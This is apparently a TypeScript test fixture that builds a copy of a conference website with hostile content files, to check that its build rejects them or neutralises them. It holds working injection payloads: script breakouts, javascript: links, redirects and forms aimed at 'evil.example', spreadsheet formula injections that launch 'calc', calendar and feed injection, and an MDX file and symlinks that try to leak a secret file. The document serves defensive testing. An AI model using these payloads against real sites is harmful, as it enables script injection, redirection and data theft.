// Hostile content: one or more files for each way a careless or malicious pull request could turn
// content into a redirect, a script, a spreadsheet formula, an extra calendar event or a leaked
// file. Written at test time (the bidirectional and zero-width characters stay escapes here, never
// raw bytes in the repository). Each case is either rejected by the check, naming file and field or
// line, or comes out inert in a real build: tests/site/hostile-content.test.ts checks which.
import { cpSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';

/** Everything for the hostile build lives here (git ignores dist-*). */
export const HOSTILE_ROOT = resolve('dist-hostile');
export const HOSTILE_SITE = join(HOSTILE_ROOT, 'site');
export const HOSTILE_OUT = join(HOSTILE_ROOT, 'out');
/** A file outside the site that no case may publish. */
export const SECRET_FILE = join(HOSTILE_ROOT, 'secret.txt');
export const SECRET = 'SECRET-7d41c9-NOT-FOR-PUBLICATION';

export const EVIL = 'https://evil.example/';
/** What a successful script injection would set. */
export const PWNED = 'hostilePwned';

const SOURCE = `source:
  publisher: "International Labour Organization (ILO)"
  title: "Test publication"
  year: 2022
  url: https://www.ilo.org/
  link: publication`;

/** The frontmatter of a plain test figure with the given title (YAML, quoted) and value. */
const figure = (title: string, value: number) => `---
title: ${title}
value: ${value}
display: "${value}"
unit: count
year: 2021
scope: "Test scope"
topic: scale
${SOURCE}
---`;

/** Files that the check accepts and the build must make inert. */
export const INERT_FILES: Record<string, string> = {
  // JSON-LD breakout: a title and a source URL that close the <script> element (figures/ lists both).
  'content/figures/hostile-json-ld.md': `---
title: 'Forced labour</script><meta http-equiv=refresh content="0;url=${EVIL}"><script>window.${PWNED}=1</script>'
value: 1
display: "1"
unit: count
year: 2021
scope: "Test scope </script><!--<script"
topic: scale
source:
  publisher: "Publisher </script><script>window.${PWNED}=1</script>"
  title: "Title <!--<script"
  year: 2022
  url: https://www.ilo.org/"></script><script>window.${PWNED}=1</script>
  link: publication
---

A figure whose fields try to break out of the JSON-LD.
`,
  // Spreadsheet formulas in every text column the CSV has.
  'content/figures/hostile-csv.md': `---
title: '=HYPERLINK("${EVIL}?"&A1,"Source")'
value: -2
display: "-2+3"
unit: count
year: 2021
scope: "+cmd|' /C calc'!A0"
topic: scale
method: "@SUM(1+1)*cmd|' /C calc'!A0"
status: derived
caveat: "\\t=1+1"
source:
  publisher: "\\r=1+1"
  title: "=1+1"
  year: 2022
  url: https://www.ilo.org/
  link: publication
---

A figure whose text starts like spreadsheet formulas.
`,
  // Raw HTML in a Markdown body: scripts, javascript: links, handlers, a redirect, frames, styles, forms.
  'content/figures/hostile-body.md': `${figure('"Hostile body"', 2)}

Before the attacks.

<script>window.${PWNED}=1</script>

[click me](javascript:window.${PWNED}=1)

<a href="jav&#x61;script:window.${PWNED}=1">encoded link</a> <a href="data:text/html,<script>alert(1)</script>">data link</a>

<img src="/favicon.svg" alt="icon" onerror="window.${PWNED}=1" onload="window.${PWNED}=1">

<meta http-equiv="refresh" content="0;url=${EVIL}">

<iframe src="${EVIL}"></iframe>

<style>body{display:none}</style>

<p style="position:fixed;inset:0;background:red">covering paragraph</p>

<form action="${EVIL}"><button>Send</button></form>

<base href="${EVIL}">

<svg><script>window.${PWNED}=1</script></svg>

After the attacks.
`,
  // The same in an MDX article, plus code that would run during the build and read a secret.
  'content/background/hostile-mdx.mdx': `---
title: "Hostile article"
description: "An article whose body tries to run code."
order: 99
---

import { readFileSync } from 'node:fs'

export const leak = readFileSync(${JSON.stringify(SECRET_FILE)}, 'utf8')

Before the attacks, with a figure: <Figure id="forced-labour-2021" inline /> people.

{leak}

Inline {leak} too.

<script>window.${PWNED}=1</script>

<a href="javascript:window.${PWNED}=1">click me</a>

<img src="/favicon.svg" alt="icon" onError="window.${PWNED}=1" />

<iframe src="${EVIL}" />

<Figure id="modern-slavery-2021" title={leak} />

After the attacks.
`,
  // Calendar injection: a lone CR, then a whole second event, in a session title.
  'content/programme/hostile-calendar.md': `---
title: "Opening\\rEND:VEVENT\\rBEGIN:VEVENT\\rUID:injected@evil.example\\rDTSTART:20230418T090000Z\\rSUMMARY:Injected event\\rEND:VEVENT"
officialTitle: false
day: "2023-04-18"
order: 99
format: "panel"
speakers: []
moderators: []
organisations: []
---

A session whose title tries to write a second calendar event.
`,
  // Feed injection: a corrections entry whose summary tries to close its element, end a CDATA
  // section and open an entry of its own, with control and bidirectional characters; its why holds
  // the same as code, and a control character.
  'content/corrections/2026-11-30-hostile-feed.md': `---
date: "2026-11-30"
figure: forced-labour-2021
kind: correction
summary: "Feed </summary><entry><id>injected</id><title>Injected</title></entry> ]]> and ]]> again <![CDATA[ x \\u0001\\u0008\\u001B \\u202Eevil\\u202C <script>window.${PWNED}=1</script>"
---

Why: \`</content><entry><id>injected-too</id></entry> ]]>\` and a bell \u0007 here.
`,
};

/** Files the check must reject, with the problem it must report (file: field: message start). */
export const REJECTED_FILES: Record<string, string> = {
  'content/figures/hostile-bidi.md': `${figure('"Victims \\u202Eeldnah 2021"', 3)}

A title with a right-to-left override.
`,
  'content/speakers/hostile-zero-width.md': `---
name: "Helga\\u200BMaria Schmid"
role: "Test role"
sortName: "Schmid"
---

A name with a zero-width space.
`,
};

/** The venue name of the real conference record, made hostile (an HTML comment opener in JSON-LD). */
export function hostileConference(text: string): string {
  const out = text.replace(/^(\s+name:\s*)"Hofburg"$/m, '$1"Hofburg <!--<script"');
  if (out === text) throw new Error('content/conference.yaml: the venue line to make hostile was not found');
  return out;
}

function write(root: string, files: Record<string, string>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
}

/**
 * A copy of the site (its sources, configuration and the real content) with the hostile files laid
 * over the content, at `root`; node_modules is found in the repository above it.
 * `withRejected` adds the files the check must reject, and symlinks in content/ and public/.
 */
export function writeHostileSite(root: string, options: { withRejected: boolean }): void {
  rmSync(root, { recursive: true, force: true });
  mkdirSync(root, { recursive: true });
  for (const entry of ['src', 'public', 'scripts', 'content', 'astro.config.mjs', 'package.json', 'tsconfig.json']) {
    cpSync(entry, join(root, entry), { recursive: true });
  }
  mkdirSync(dirname(SECRET_FILE), { recursive: true });
  writeFileSync(SECRET_FILE, SECRET);
  write(root, INERT_FILES);
  writeFileSync(join(root, 'content/conference.yaml'), hostileConference(readFileSync('content/conference.yaml', 'utf8')));
  if (options.withRejected) {
    write(root, REJECTED_FILES);
    symlinkSync(SECRET_FILE, join(root, 'public/leak.txt'));
    symlinkSync(SECRET_FILE, join(root, 'content/figures/linked.md'));
  }
}
